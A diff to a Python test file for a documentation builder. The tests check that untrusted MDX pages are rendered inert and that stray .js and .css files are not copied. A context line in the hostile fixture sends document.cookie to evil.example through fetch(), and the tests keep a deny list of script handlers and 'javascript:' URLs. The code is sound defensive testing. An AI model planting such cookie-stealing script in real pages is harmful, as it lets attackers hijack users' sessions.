@@ -183,7 +183,7 @@ Text {fetch("https://evil.example/" + document.cookie)} and `{kept in code}`.
 
 <script>steal()</script>
 
-See <Link href="other.md">the other page</Link>.
+See <Link href="other.md">the other page</Link>, [a script](tool.js) and [a style](look.css).
 
 ```js
 const inCode = {a: 1};
@@ -202,10 +202,15 @@ OTHER = """\
 
 
 def test_untrusted_mdx_is_inert_and_reported(tmp_path: Path, cache_dir: Path) -> None:
-    commit = make_repo(tmp_path / "up", {"docs/hostile.md": HOSTILE, "docs/other.md": OTHER})
+    commit = make_repo(tmp_path / "up", {"docs/hostile.md": HOSTILE, "docs/other.md": OTHER,
+                                         "docs/tool.js": "steal()", "docs/look.css": "*{}"})
     docs = _host(tmp_path, tmp_path / "up", commit)
     done = _cli(docs, "build", "--out", str(tmp_path / "out"))
     assert done.returncode == 0, done.stderr
+    # Mintlify adds every .js and .css file of the site to every page: none is copied
+    assert not list((tmp_path / "out").rglob("*.js")) and not list((tmp_path / "out").rglob(
+        "*.css"))
+    assert "tool.js is not copied" in done.stderr and "look.css is not copied" in done.stderr
     page = (tmp_path / "out" / "diffusion" / "hostile.md").read_text()
     for bad in ("import {", "export const", "onClick", "onmouseover", "onerror", "javascript:",
                 "<script>", "icon:", "openapi", "evil.example/track"):
@@ -232,6 +237,7 @@ def test_untrusted_mdx_is_inert_and_reported(tmp_path: Path, cache_dir: Path) ->
     assert done.returncode == 0, done.stderr
     page = (tmp_path / "out2" / "diffusion" / "hostile.md").read_text()
     assert "import { Steal }" in page and "onClick={() => steal()}" in page
+    assert (tmp_path / "out2" / "diffusion" / "tool.js").is_file()
 
 
 def test_dev_writes_a_generated_folder_and_follows_a_working_copy(tmp_path: Path,
@@ -303,6 +309,11 @@ def test_build_refuses_an_output_folder_it_did_not_write(tmp_path: Path,
     assert (out / "precious.txt").read_text() == "mine"
 
 
+def pinned_sample() -> str:
+    lock = yaml.safe_load((ROOT / "sample_site" / "mintlify" / "miles-docs.lock").read_text())
+    return str(lock["sources"]["diffusion"]["commit"])
+
+
 def test_sample_mintlify_site_builds_offline_and_mint_finds_no_broken_link(
         tmp_path: Path, cache_dir: Path) -> None:
     sample = copy_sample(tmp_path)
@@ -317,6 +328,10 @@ def test_sample_mintlify_site_builds_offline_and_mint_finds_no_broken_link(
     home = (out / "diffusion" / "index.md").read_text()
     assert "[installation guide](/diffusion/getting-started/installation)" in home
     assert "<Note>" in home and "(/#supported-models)" in home
+    install = (out / "diffusion" / "getting-started" / "installation.md").read_text()
+    assert f"diffusion-sample/blob/{pinned_sample()}/scripts/train.py" in install
+    assert '](/diffusion/assets/images/pipeline.svg "Pipeline")' in install
+    assert (out / "diffusion" / "assets" / "images" / "pipeline.svg").is_file()
     assert broken_links(out, tmp_path / "home") == {}
 
 
